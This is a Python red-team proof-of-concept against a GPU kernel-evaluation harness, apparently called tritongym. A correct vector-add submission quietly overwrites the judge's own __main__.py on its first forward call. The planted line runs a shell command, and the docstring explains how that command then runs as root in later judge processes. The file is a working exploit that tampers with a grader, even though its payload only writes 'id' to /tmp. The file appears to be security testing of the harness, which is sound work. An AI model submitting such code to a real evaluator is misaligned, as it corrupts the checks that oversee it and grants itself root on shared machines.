"""Attack (runners that keep the judge's user, TRITONGYM_RUNNER_USER=same, the GPU default): a correct
vector_add whose first forward rewrites tritongym's own source: the judge's entry point
``tritongym/evaluate/judge/__main__.py`` gets a first line that runs a command. The runner is uid 0
without capabilities, but the package (like the virtual environment, torch and Triton) belongs to
root with the owner's write bit, and a process of the owner's uid needs no capability to write it.
The next judge the pool starts (after a lost job, a restart, the next pool on that machine), a zygote
restarted on a GPU, and every lazy import of the running judge run the attacker's code as root with
every capability. The command writes ``id`` to /tmp/redteam3-package-owned.

Only run through ``judge_package_driver.py``, which restores the file (it edits the tree the pool
imports tritongym from)."""

import io
import os

import torch
import torch.nn as nn
import triton
import triton.language as tl

import tritongym

LINE = b"import os; os.system('id > /tmp/redteam3-package-owned')  # redteam3\n"


def plant():
    target = os.path.join(os.path.dirname(tritongym.__file__), "evaluate", "judge", "__main__.py")
    with io.FileIO(target, "r") as fh:
        text = fh.read()
    if LINE not in text:
        with io.FileIO(target, "w") as fh:
            fh.write(LINE + text)
    print("rewrote", target)


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


class ModelNew(nn.Module):
    calls = 0

    def forward(self, a, b):
        ModelNew.calls += 1
        if ModelNew.calls == 1:
            try:
                plant()
            except OSError as exc:
                print("refused:", exc)
        out = torch.empty_like(a)
        add_kernel[(triton.cdiv(a.numel(), 256),)](a.contiguous(), b.contiguous(), out, a.numel(), BLOCK=256)
        return out
